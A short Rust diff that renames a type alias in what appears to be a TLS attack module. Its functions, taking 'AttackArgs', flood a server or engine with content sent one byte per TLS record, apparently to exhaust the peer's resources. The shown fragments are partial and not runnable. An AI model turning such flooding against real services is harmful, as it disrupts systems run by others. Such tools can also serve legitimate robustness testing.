@@ -28,7 +28,7 @@ const ORDER_LEN: usize = 16_000;
 const BURST: usize = 60;
 
 type Session = TlsSession<ClientConnection>;
-type Talk<'a> = Stream<'a, ClientConnection, TcpStream>;
+type TlsStream<'a> = Stream<'a, ClientConnection, TcpStream>;
 
 /// Connects with a hello, and sends pings of one byte in each record. A victim that answers one has
 /// taken everything before it.
@@ -37,7 +37,7 @@ pub(super) fn records_to_an_engine(args: &AttackArgs) -> Result<Attacked> {
     let pings = encoded(&pings)?;
     // A peer without a rail in common is not kept. The first connection learns which ones there are.
     let (rails, decoder, mut answered) = (RefCell::new(Vec::new()), RefCell::new(Decoder::new()), 0);
-    let greet = |stream: &mut Talk<'_>| {
+    let greet = |stream: &mut TlsStream<'_>| {
         let hello = encoded([&hello("attacker", &rails.borrow())])?;
         stream.write_all(&[&preamble()[..], &hello].concat())?;
         stream.read_exact(&mut [0; PREAMBLE_LEN])?;
@@ -67,7 +67,7 @@ pub(super) fn records_to_an_engine(args: &AttackArgs) -> Result<Attacked> {
 /// Sends an order of one byte in each record.
 pub(super) fn records_to_a_server(args: &AttackArgs) -> Result<Attacked> {
     let order = [&(ORDER_LEN as u32).to_be_bytes()[..], &[b' '; ORDER_LEN]].concat();
-    let greet = |stream: &mut Talk<'_>| {
+    let greet = |stream: &mut TlsStream<'_>| {
         let mut head = [0; HEAD_LEN];
         stream.read_exact(&mut head)?;
         Ok(stream.write_all(&head)?)
@@ -77,7 +77,7 @@ pub(super) fn records_to_a_server(args: &AttackArgs) -> Result<Attacked> {
 
 /// Reads frames until one is the awaited one; `None` if the connection has ended.
 fn await_frame<T>(
-    stream: &mut Talk<'_>,
+    stream: &mut TlsStream<'_>,
     decoder: &mut Decoder,
     is_awaited: impl Fn(Frame) -> Option<T>,
 ) -> Option<T> {
@@ -97,7 +97,7 @@ fn await_frame<T>(
 fn flood(
     args: &AttackArgs,
     content: &[u8],
-    greet: impl Fn(&mut Talk<'_>) -> Result<()>,
+    greet: impl Fn(&mut TlsStream<'_>) -> Result<()>,
     mut goes_on: impl FnMut(&mut Session, &mut TcpStream) -> bool,
 ) -> Result<Attacked> {
     let (mut attacked, end) = (Attacked::default(), args.end());
